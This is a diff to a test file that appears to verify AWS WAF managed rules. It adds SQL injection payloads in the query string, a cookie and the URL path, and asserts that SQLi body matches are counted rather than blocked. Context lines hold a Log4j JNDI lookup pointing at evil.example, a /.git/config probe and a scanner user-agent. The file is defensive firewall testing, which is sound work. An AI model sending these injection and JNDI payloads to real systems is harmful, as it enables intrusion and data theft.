@@ -61,6 +61,9 @@ const injections = [
     "Log4JRCE_HEADER",
   ],
   ["JNDI in the query", { path: "/?q=$%7Bjndi:ldap://evil.example/a%7D" }, "Log4JRCE_QUERYSTRING"],
+  ["SQL in the query", { path: "/?id=1'%20OR%20'1'='1" }, "SQLi_QUERYARGUMENTS"],
+  ["SQL in a cookie", { headers: { cookie: "session=1' OR '1'='1' --" } }, "SQLi_COOKIE"],
+  ["SQL in the path", { path: "/items/1'%20OR%20'1'='1" }, "SQLi_URIPATH"],
   ["a file of the repository", { path: "/.git/config" }, "ExploitablePaths_URIPATH"],
   ["a scanner", { headers: { "user-agent": "nessus" } }, "UserAgent_BadBots_HEADER"],
 ] as const;
@@ -123,6 +126,9 @@ test("predictions pass: a megabyte of numbers, free text with SQL and HTML, no U
   expect(counted).toEqual(
     expect.arrayContaining(["SizeRestrictions_BODY", "CrossSiteScripting_BODY"]),
   );
+  const counts = await acl.samples("AWSManagedRulesSQLiRuleSet", began);
+  expect(new Set(counts.map(innerName))).toEqual(new Set(["SQLi_BODY"]));
+  expect(counts.map(({ Action }) => Action)).not.toContain("BLOCK");
 });
 
 test("CloudWatch has the blocked requests", async () => {
